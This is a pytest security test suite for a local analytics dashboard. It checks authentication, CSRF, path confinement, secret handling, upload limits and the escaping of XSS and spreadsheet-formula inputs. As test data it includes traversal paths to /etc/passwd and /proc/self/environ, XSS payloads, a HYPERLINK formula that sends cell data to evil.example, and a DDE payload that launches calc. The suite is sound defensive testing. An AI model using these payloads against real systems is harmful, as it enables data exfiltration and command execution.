"""The dashboard probed as an attacker on the same machine would: a real ``loyalscope serve``
process on a free 127.0.0.1 port, driven over HTTP (and Chromium for the XSS probe).

Each test proves one item of "safe to leave running": anonymous 401, token accepted, outside
paths refused, URLs from requests refused (no JVM), passwords never in an answer, 413 over
``--max-upload-mb``, CSRF and cross-site posts 403, security headers, formula cells written as
text, config paths confined, no 500 for hostile input, and an XSS probe that executes nothing.
"""

from __future__ import annotations

import csv
import io
import re
import sqlite3
import sys
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from webtools import TOKEN, serve, wait_job

from loyalscope.report.cells import safe_text

SECRET = "hunter2-s3cret"
PORT_PROBE = "127.0.0.1:9"  # the discard port: nothing listens there
XSS = '<img src=x onerror="window.__xss=1"><script>window.__xss=2</script>'


@pytest.fixture(scope="module")
def world(tmp_path_factory, company_dir: Path) -> dict:
    """Folders of the attack: a data root with a dataset, a secret outside it, a symlink out."""
    base = tmp_path_factory.mktemp("sec")
    root = base / "root"
    (root / "shop").mkdir(parents=True)
    for p in company_dir.glob("*.csv"):
        (root / "shop" / p.name).write_bytes(p.read_bytes())
    outside = base / "outside"
    outside.mkdir()
    (outside / "transactions.csv").write_text(f"db_password={SECRET}\n", encoding="utf-8")
    (root / "escape").symlink_to(outside, target_is_directory=True)
    (root / "shop-with-link").mkdir()
    (root / "shop-with-link" / "transactions.csv").symlink_to(outside / "transactions.csv")
    config = base / "web.toml"
    config.write_text(f'[web.connections]\nwarehouse = "postgresql://loyal:${{WH_PASSWORD}}@{PORT_PROBE}/crm"\n',
                      encoding="utf-8")
    return {"base": base, "root": root, "outside": outside, "config": config}


@pytest.fixture(scope="module")
def server(world):
    state = world["base"] / "state"
    with serve(state, "--token", TOKEN, "--data-root", str(world["root"]), "--config", str(world["config"]),
               "--max-upload-mb", "1", "--max-queue", "3", "--http-workers", "1", "--lang", "en",
               env={"WH_PASSWORD": SECRET}) as srv:
        yield srv


def _error(res) -> dict:
    body = res.json()
    assert set(body) == {"error"} and body["error"]["message"] and body["error"]["fix"], body
    return body["error"]


def _login(server):
    """A browser-like client holding the session cookie made from ?token=."""
    c = server.client(token=None)
    res = c.get(f"/?token={TOKEN}")
    assert res.status_code == 303
    return c


def _csrf(client) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', client.get("/").text).group(1)


def test_anonymous_requests_are_refused(server) -> None:
    anon = server.client(token=None)
    for path in ("/api/analyses", "/api/datasets", "/api/users", "/api/me"):
        res = anon.get(path)
        assert res.status_code == 401 and res.headers["www-authenticate"] == "Bearer"
        assert _error(res)["type"] == "Unauthorized"
    page = anon.get("/")
    assert page.status_code == 303 and page.headers["location"] == "/login?next=%2F"
    login = anon.get("/login")
    assert login.status_code == 200 and 'name="token"' in login.text
    assert server.client(token="wrong-" + TOKEN).get("/api/analyses").status_code == 401
    assert anon.post("/api/datasets/path", json={"path": "/etc"}).status_code == 401


def test_token_is_printed_and_accepted(server) -> None:
    printed = "".join(server.output)
    assert f"?token={TOKEN}" in printed
    assert server.client().get("/api/me").json() == {"name": "token", "role": "admin", "auth": "bearer"}
    browser = server.client(token=None)
    res = browser.get(f"/analyses?token={TOKEN}&lang=en")
    assert res.status_code == 303 and res.headers["location"] == "/analyses?lang=en"  # token gone
    cookie = res.headers["set-cookie"]
    assert "HttpOnly" in cookie and "SameSite=lax" in cookie and TOKEN not in cookie
    assert browser.get("/api/me").json()["auth"] == "cookie"
    assert browser.get("/").status_code == 200


@pytest.mark.parametrize("path", ["/etc", "/proc", "/proc/self/environ", "/root", "/", "../outside",
                                  "{outside}", "{outside}/transactions.csv", "{root}/../outside",
                                  "{root}/escape", "{root}/escape/transactions.csv", "/no/such/dir",
                                  "{root}/shop-with-link"])
def test_paths_outside_the_roots_are_refused_alike(server, world, path: str) -> None:
    path = path.format(root=world["root"], outside=world["outside"])
    res = server.client().post("/api/datasets/path", json={"path": path}, params={"lang": "en"})
    assert res.status_code == 400
    err = _error(res)
    # the same answer whether the target exists or not: nothing about it leaks
    assert err["message"] == "This path is not available to the dashboard."
    assert SECRET not in res.text and "files" not in err["message"]


def test_a_path_inside_a_root_is_registered(server, world, company_dir) -> None:
    res = server.client().post("/api/datasets/path", json={"path": str(world["root"] / "shop"), "name": "shop"})
    assert res.status_code == 201 and res.json()["kind"] == "path"
    assert res.json()["files"] == len(list(company_dir.glob("*.csv")))


@pytest.mark.parametrize("url", [f"postgres://loyal:{SECRET}@{PORT_PROBE}/crm", "pyspark://local",
                                 "pyspark", "duckdb:///etc/passwd", "file:///etc/passwd"])
def test_urls_from_requests_are_refused_and_start_nothing(server, url: str) -> None:
    res = server.client().post("/api/datasets/path", json={"path": url}, params={"lang": "en"})
    assert res.status_code == 400
    assert _error(res)["message"] == "Database URLs cannot be given here."
    assert SECRET not in res.text and PORT_PROBE not in res.text
    assert not [p for p in server.processes() if p[1] == "java"]  # no JVM was started
    assert "pyspark" not in server.client().get("/api/datasets").text


def test_connection_password_is_never_shown(server, world) -> None:
    c = server.client()
    assert c.get("/api/connections").json() == ["warehouse"]
    ds = c.post("/api/datasets/connection", json={"connection": "warehouse"})
    assert ds.status_code == 201 and ds.json()["source"] == "warehouse"
    job = c.post("/api/analyses", json={"dataset_id": ds.json()["id"], "lang": "en"})
    row = wait_job(c, job.json()["id"])
    assert row["status"] == "failed"
    assert row["error"]["message"] == "The data of connection warehouse could not be read."
    answers = [c.get(p).text for p in ("/api/datasets", "/api/analyses", f"/api/analyses/{row['id']}",
                                       "/api/settings", "/")]
    answers.append(_login(server).get(f"/analyses/{row['id']}").text)
    for text in answers:
        assert SECRET not in text and PORT_PROBE not in text and "postgresql://" not in text
    db = (world["base"] / "state" / "loyalscope-web.db").read_bytes()
    assert SECRET.encode() not in db and PORT_PROBE.encode() not in db


def test_user_password_is_kept_hashed_and_never_shown(server, world) -> None:
    c = server.client()
    password = "correct horse battery staple"
    res = c.post("/api/users", json={"name": "li.wei", "role": "viewer", "password": password})
    assert res.status_code == 201 and password not in res.text and "argon2" not in res.text
    assert password not in c.get("/api/users").text and "li.wei" in c.get("/api/users").text
    con = sqlite3.connect(world["base"] / "state" / "loyalscope-web.db")
    stored = con.execute("SELECT password_hash FROM users WHERE name = 'li.wei'").fetchone()[0]
    con.close()
    assert stored.startswith("$argon2id$") and password not in stored
    # the user logs in through the form; a viewer sees analyses but may not add data
    browser = server.client(token=None)
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', browser.get("/login").text).group(1)
    bad = browser.post("/login", data={"name": "li.wei", "password": "wrong", "csrf_token": csrf})
    assert bad.status_code == 401 and "wrong" not in bad.text
    ok = browser.post("/login", data={"name": "li.wei", "password": password, "csrf_token": csrf})
    assert ok.status_code == 303 and password not in ok.text
    assert browser.get("/api/me").json() == {"name": "li.wei", "role": "viewer", "auth": "cookie"}
    assert browser.get("/api/analyses").status_code == 200
    assert browser.get("/api/datasets").status_code == 403
    assert browser.get("/api/users").status_code == 403


def test_upload_over_the_limit_is_413(server, world) -> None:
    c = server.client()
    before = c.get("/api/datasets").json()
    big = b"order_id,customer_id\n" + b"x" * (2 * 1024 * 1024)
    res = c.post("/api/datasets/upload", files=[("files", ("transactions.csv", big, "text/csv"))])
    assert res.status_code == 413 and _error(res)["type"] == "UploadTooLarge"

    def chunks():  # no Content-Length: the limit is enforced while the body streams
        boundary = b"--b0undary\r\n"
        yield boundary + b'Content-Disposition: form-data; name="files"; filename="t.csv"\r\n\r\n'
        for _ in range(40):
            yield b"y" * 65536
        yield b"\r\n--b0undary--\r\n"

    res = c.post("/api/datasets/upload", content=chunks(),
                 headers={"Content-Type": "multipart/form-data; boundary=b0undary"})
    assert res.status_code == 413
    assert c.get("/api/datasets").json() == before
    uploads = world["base"] / "state" / "datasets"
    assert not uploads.exists() or not any(uploads.iterdir())


def test_csrf_and_cross_site_posts_are_403(server, world) -> None:
    browser = _login(server)
    form = {"path": str(world["root"] / "shop"), "name": "csrf"}
    assert browser.post("/datasets/path", data=form).status_code == 403  # no token
    assert browser.post("/datasets/path", data=form | {"csrf_token": "forged"}).status_code == 403
    token = _csrf(browser)
    evil = browser.post("/datasets/path", data=form | {"csrf_token": token},
                        headers={"Origin": "http://evil.example"})
    assert evil.status_code == 403
    other_port = browser.post("/datasets/path", data=form | {"csrf_token": token},
                              headers={"Origin": "http://127.0.0.1:1"})
    assert other_port.status_code == 403  # same site, other origin
    api = browser.post("/api/datasets/path", json=form)  # the cookie alone cannot post JSON
    assert api.status_code == 403
    assert "csrf" not in [d["name"] for d in server.client().get("/api/datasets").json()]
    good = browser.post("/datasets/path", data=form | {"csrf_token": token}, headers={"Origin": server.base})
    assert good.status_code == 303
    assert "csrf" in [d["name"] for d in server.client().get("/api/datasets").json()]


def test_security_headers(server) -> None:
    browser = _login(server)
    res = browser.get("/")
    csp = res.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
    assert "frame-ancestors 'none'" in csp and "object-src 'none'" in csp
    assert res.headers["x-content-type-options"] == "nosniff"
    assert res.headers["x-frame-options"] == "DENY"
    api = server.client().get("/api/analyses")
    assert api.headers["x-content-type-options"] == "nosniff" and api.headers["cache-control"] == "no-store"


def _hostile(server, world) -> list[tuple[str, str, dict]]:
    analysis = server.client().get("/api/analyses").json()
    aid = analysis[0]["id"] if analysis else "x"
    long = "n" * 300
    return [
        ("GET", f"/api/analyses/{aid}/customers?offset=1e20", {}),
        ("GET", f"/api/analyses/{aid}/customers?offset=100000000000000000000", {}),
        ("GET", f"/api/analyses/{aid}/customers?limit=-1", {}),
        ("GET", f"/api/analyses/{aid}/customers?q={'q' * 300}", {}),
        ("GET", f"/api/analyses/{aid}/customers/{long}", {}),
        ("GET", f"/api/analyses/{long}", {}),
        ("GET", f"/api/analyses/{long}/dashboard", {}),
        ("GET", f"/api/datasets/{long}", {}),
        ("POST", "/api/datasets/path", {"json": {"path": "/proc"}}),
        ("POST", "/api/datasets/path", {"json": {"path": "/proc/self/environ"}}),
        ("POST", "/api/datasets/path", {"json": {"path": str(world["root"]) + "/\x00x"}}),
        ("POST", "/api/datasets/path", {"json": {"path": str(world["root"] / "shop"), "name": long}}),
        ("POST", "/api/datasets/path", {"json": {"path": "p" * 5000}}),
        ("POST", "/api/datasets/path", {"content": b"{not json", "headers": {"Content-Type": "application/json"}}),
        ("POST", "/api/datasets/upload", {"files": [("files", (long + ".csv", b"a,b\n1,2\n", "text/csv"))]}),
        ("POST", "/api/datasets/upload", {"files": [("files", ("..", b"a\n", "text/csv"))]}),
        ("POST", "/api/datasets/upload", {"files": [("files", (".hidden.csv", b"a\n", "text/csv"))]}),
        ("POST", "/api/datasets/upload", {"files": [("files", ("a.csv", b"a\n", "text/csv"))], "data": {"name": long}}),
        ("POST", "/api/analyses", {"json": {"dataset_id": long}}),
        ("POST", "/api/analyses", {"json": {"dataset_id": "x", "sections": [long]}}),
        ("POST", "/api/datasets/connection", {"json": {"connection": long}}),
        ("GET", f"/analyses/{aid}/customers?page=100000000000000000000", {}),
        ("GET", f"/analyses/{aid}/customers?page=1e20", {}),
        ("GET", f"/analyses/{aid}/files/..%2F..%2Floyalscope-web.db", {}),
        ("GET", f"/analyses/{aid}/files/{long}", {}),
    ]


def test_hostile_inputs_get_4xx_answers_never_500(server, world) -> None:
    c = server.client()
    for method, url, kw in _hostile(server, world):
        res = c.request(method, url, **kw)
        assert 400 <= res.status_code < 500, (method, url, kw, res.status_code, res.text[:300])
        assert "Traceback" not in res.text and 'File "' not in res.text, url
        if url.startswith("/api"):
            _error(res)


def test_upload_names_are_plain_names_inside_the_dataset(server) -> None:
    res = server.client().post("/api/datasets/upload", files=[("files", ("../../x.csv", b"a\n", "text/csv"))])
    assert res.status_code == 201
    folder = Path(res.json()["source"])
    assert [p.name for p in folder.iterdir()] == ["x.csv"]
    assert not (folder.parent.parent / "x.csv").exists()


def test_config_paths_resolve_only_inside_the_dataset(server, company_dir) -> None:
    c = server.client()
    files = [("files", (p.name, p.read_bytes(), "text/csv")) for p in sorted(company_dir.glob("*.csv"))]
    for key, value in (("index_weights", "/dev/zero"), ("rfm_scheme", "../../../../etc/passwd")):
        toml = f'[segments]\n{key} = "{value}"\n'.encode()
        ds = c.post("/api/datasets/upload", files=[*files, ("files", ("loyalscope.toml", toml, "text/plain"))])
        assert ds.status_code == 201, ds.text
        row = wait_job(c, c.post("/api/analyses", json={"dataset_id": ds.json()["id"], "lang": "en"}).json()["id"])
        assert row["status"] == "failed" and row["error"]["type"] == "Refused", row
        assert row["error"]["message"] == f"The setting segments.{key} must name a file inside the dataset's own folder."
        assert "root:" not in str(row)


def _has_safe_cells() -> bool:
    try:
        from loyalscope.report.cells import safe_text  # noqa: F401
    except ImportError:
        return False
    return True


FORMULA_ID = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


@pytest.mark.slow
@pytest.mark.xfail(not _has_safe_cells(), strict=True,
                   reason="report.cells.safe_text (helper data-intake, branch i10-intake) is not on main yet")
def test_formula_cells_are_written_as_text(server, company_dir) -> None:
    import openpyxl

    c = server.client()
    files = []
    for p in sorted(company_dir.glob("*.csv")):
        data = p.read_text(encoding="utf-8").replace('"C0000001"', '"' + FORMULA_ID.replace('"', '""') + '"')
        if p.name == "transactions.csv":  # a row quarantined for its amount, a formula
            data += '"O99999999","C0000002",2024-03-01 10:00:00,"@SUM(1+1)*cmd|\' /C calc\'!A0","P1","food","online",1,0,1,false\n'
        files.append(("files", (p.name, data.encode("utf-8"), "text/csv")))
    ds = c.post("/api/datasets/upload", files=files).json()
    row = wait_job(c, c.post("/api/analyses", json={"dataset_id": ds["id"], "lang": "en"}).json()["id"], 300)
    assert row["status"] == "done", row
    xlsx = c.get(f"/analyses/{row['id']}/files/loyalscope.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(xlsx.content))
    texts = [cell.value for ws in book.worksheets for r in ws.iter_rows() for cell in r
             if isinstance(cell.value, str)]
    formulas = [cell.coordinate for ws in book.worksheets for r in ws.iter_rows() for cell in r
                if cell.data_type == "f"]
    assert not formulas
    assert any("HYPERLINK" in v for v in texts)
    csv_text = c.get(f"/analyses/{row['id']}/files/quarantine.csv").text
    fields = [f.strip('"') for line in csv_text.splitlines() for f in line.split(",")]
    assert any("SUM(1+1)" in f for f in fields)
    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")]
    with zipfile.ZipFile(io.BytesIO(xlsx.content)) as z:
        assert not any("<f>" in z.read(n).decode("utf-8", "replace") for n in z.namelist()
                       if n.startswith("xl/worksheets/"))
    # every customer, downloadable as CSV beside the capped customer sheet: the id quoted (OWASP)
    customers = c.get(f"/analyses/{row['id']}/files/customers.csv")
    assert customers.status_code == 200
    ids = [r[0] for r in csv.reader(io.StringIO(customers.content.decode("utf-8-sig")))][1:]
    scored = pd.read_parquet(io.BytesIO(c.get(f"/analyses/{row['id']}/files/customers.parquet").content))
    assert ids == [safe_text(i) for i in scored.customer_id]
    assert not [i for i in ids if i[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.browser
def test_xss_probe_executes_nothing(server, world, company_dir) -> None:
    sys.path.insert(0, str(Path(__file__).parents[1] / "report"))
    from browser import Browser, ensure_chromium

    CHROMIUM = ensure_chromium()
    c = server.client()
    ds = c.post("/api/datasets/path", json={"path": str(world["root"] / "shop"), "name": XSS}).json()
    assert c.get("/api/datasets").status_code == 200
    with Browser(CHROMIUM, timeout=30) as b:
        session = b.open_page()
        b.send("Page.enable", session=session)
        b.navigate(session, f"{server.base}/?token={TOKEN}&lang=en")
        pages = ["/?lang=en", f"/analyses/{'x' + XSS}?lang=en", f"/login?next={XSS}",
                 f"/datasets/{ds['id']}?lang=en"]
        for page in pages:
            b.navigate(session, server.base + page.replace("#", "%23"))
            b.wait_for(session, "document.readyState === 'complete' && document.querySelector('footer') !== null")
            assert b.evaluate(session, "window.__xss === undefined"), page
        b.navigate(session, f"{server.base}/?lang=en")
        b.wait_for(session, "document.getElementById('datasets') !== null")
        shown = b.evaluate(session, "document.getElementById('datasets').innerText")
        assert XSS in shown  # the payload is shown as text
        assert b.evaluate(session, "document.querySelectorAll('#datasets img, #datasets script').length") == 0
        dialogs = b.events_for(session, "Page.javascriptDialogOpening")
        assert not dialogs


def test_several_request_processes_share_the_settings(world) -> None:
    """``--http-workers 2``: each uvicorn worker builds the app from the environment the serve
    command set (token, roots, connections, limits); none of it is on a command line."""
    with serve(world["base"] / "state2", "--token", TOKEN, "--data-root", str(world["root"]),
               "--config", str(world["config"]), "--max-upload-mb", "3", "--http-workers", "2",
               env={"WH_PASSWORD": SECRET}) as srv:
        c = srv.client()
        for _ in range(6):  # new connections: the kernel spreads them over both processes
            with srv.client() as one:
                assert one.get("/api/me").json()["role"] == "admin"
            assert srv.client(token=None).get("/api/analyses").status_code == 401
        settings = c.get("/api/settings").json()
        assert settings["max_upload_mb"] == 3 and settings["connections"] == ["warehouse"]
        assert settings["data_roots"] == [str(world["root"].resolve())]
        assert SECRET not in c.get("/api/settings").text
        assert len([p for p in srv.processes() if p[1].startswith("python")]) >= 2
        cmdlines = [Path(f"/proc/{pid}/cmdline").read_bytes() for pid, _ in srv.processes()]
        assert cmdlines and not any(TOKEN.encode() in cmd or SECRET.encode() in cmd for cmd in cmdlines)
